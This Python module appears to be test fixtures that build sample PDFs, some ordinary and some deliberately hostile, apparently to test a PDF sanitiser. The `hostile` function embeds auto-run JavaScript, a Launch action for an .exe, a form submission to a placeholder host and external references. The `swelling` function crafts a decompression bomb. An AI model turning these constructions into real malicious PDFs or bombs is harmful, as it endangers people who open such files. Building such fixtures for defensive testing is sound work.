"""Make PDFs as scanners, phones and ill-wishers make them."""

import io
import zlib
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

EVIL = "PERINTAH_JAHAT"


def _page(document: pikepdf.Pdf, text: str, **entries: Any) -> pikepdf.Page:
    page = document.add_blank_page(page_size=(595, 842))
    page.obj.Resources = Dictionary(
        Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    page.obj.Contents = Stream(document, f"BT /F1 14 Tf 72 100 Td ({text}) Tj ET".encode())
    for name, value in entries.items():
        page.obj[f"/{name}"] = value
    return page


def odd_pages(path: Path, **entries: Any) -> Path:
    """Write a PDF of one page with these entries, such as `Rotate=90`; its text is `Isi surat`."""
    document = pikepdf.new()
    _page(document, "Isi surat", **entries)
    document.save(path)
    return path


def hostile(path: Path) -> Path:
    """Write a PDF that does on opening, on clicking and on printing what no letter should."""
    document = pikepdf.new()
    script = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=f"app.alert('{EVIL}')")
    launch = Dictionary(Type=Name.Action, S=Name.Launch, F=f"{EVIL}.exe")
    send = Dictionary(Type=Name.Action, S=Name.SubmitForm, F=f"http://{EVIL}.invalid/")
    page = _page(document, "Surat biasa", AA=Dictionary(O=script))
    look = Stream(document, b"0 1 0 rg 0 0 50 20 re f")
    look.Type, look.Subtype, look.BBox = Name.XObject, Name.Form, Array([0, 0, 50, 20])
    look.PieceInfo = Dictionary(X=Dictionary(Private=script))
    outside = Stream(document, b"")
    outside.Type, outside.Subtype, outside.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
    outside.F, outside.Ref = f"{EVIL}.pdf", Dictionary(F=f"{EVIL}.pdf")
    postscript = Stream(document, f"({EVIL}) print".encode())
    postscript.Type, postscript.Subtype = Name.XObject, Name.PS
    page.obj.Resources.XObject = Dictionary(A=look, F=outside, JS=postscript)
    page.obj.Resources.Properties = Dictionary(P=Dictionary(JS=script))
    page.obj.Contents = Stream(
        document, b"BT /F1 14 Tf 72 700 Td (Surat biasa) Tj ET q 1 0 0 1 72 500 cm /A Do Q /F Do /JS Do"
    )
    link = {"/Type": Name.Annot, "/Rect": Array([0, 0, 500, 500])}
    page.obj.Annots = Array(
        [
            document.make_indirect(Dictionary({**link, "/Subtype": Name.Link, "/A": launch})),
            document.make_indirect(
                Dictionary({**link, "/Subtype": Name.Link, "/A": send, "/AA": Dictionary(E=script)})
            ),
        ]
    )
    document.Root.OpenAction = script
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", script])))
    document.attachments[f"{EVIL}.txt"] = EVIL.encode()
    document.save(path)
    return path


def highlighted(path: Path) -> Path:
    """Write a PDF with a yellow highlight that has no look of its own."""
    document = pikepdf.new()
    page = _page(document, "Belanja inovasi")
    corners = Array([60, 690, 300, 690, 60, 720, 300, 720])
    page.obj.Annots = Array(
        [
            document.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Highlight,
                    Rect=Array([60, 690, 300, 720]),
                    QuadPoints=corners,
                    C=Array([1, 1, 0]),
                )
            )
        ]
    )
    document.save(path)
    return path


def signed(path: Path, padding: int) -> Path:
    """Write a PDF with a field that says it is signed electronically, and so many bytes of ballast."""
    document = pikepdf.new()
    _page(document, "Ditandatangani secara elektronik")
    signature = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=Array([0, 1, 2, 3]))
    field = Dictionary(FT=Name.Sig, T="ttd", V=document.make_indirect(signature))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]), SigFlags=3)
    document.Root.Ballast = Stream(document, bytes(padding), Filter=Name.Crypt)
    document.save(path, compress_streams=False)
    return path


def scan(path: Path, pages: int = 1, dots: int = 300, quality: int = 95) -> Path:
    """Write a PDF of scanned pages: a picture of this many dots per inch over each whole page."""
    document = pikepdf.new()
    size = (round(595 / 72 * dots), round(842 / 72 * dots))
    for number in range(pages):
        buffer = io.BytesIO()
        grain = Image.effect_noise((size[0] // 12, size[1] // 12), 10 + number)
        picture = grain.resize(size, Image.Resampling.BICUBIC).convert("RGB")
        picture.save(buffer, "JPEG", quality=quality)
        page = document.add_blank_page(page_size=(595, 842))
        stream = Stream(document, b"")
        stream.write(buffer.getvalue(), filter=Name.DCTDecode)
        stream.Type, stream.Subtype, stream.BitsPerComponent = Name.XObject, Name.Image, 8
        (stream.Width, stream.Height), stream.ColorSpace = size, Name.DeviceRGB
        page.obj.Resources = Dictionary(XObject=Dictionary(S=document.make_indirect(stream)))
        page.obj.Contents = Stream(document, b"q 595 0 0 842 0 0 cm /S Do Q")
    document.save(path)
    return path


def swelling(document: pikepdf.Pdf, megabytes: int) -> Stream:
    """Return a stream that takes some kilobytes in the file and so many megabytes when it is read."""
    deflater = zlib.compressobj(9)
    block = deflater.compress(bytes(1 << 20)) + deflater.flush(zlib.Z_FULL_FLUSH)
    once = block[2:]  # what zlib begins with stands there once
    end = zlib.compressobj(9)
    last = (end.compress(b"") + end.flush())[2:-4]
    total = (megabytes << 20) % 65521 << 16 | 1  # the checksum of so many zeros
    packed = block[:2] + once * megabytes + last + total.to_bytes(4, "big")
    stream = Stream(document, b"")
    stream.write(packed, filter=Name.FlateDecode)
    return stream
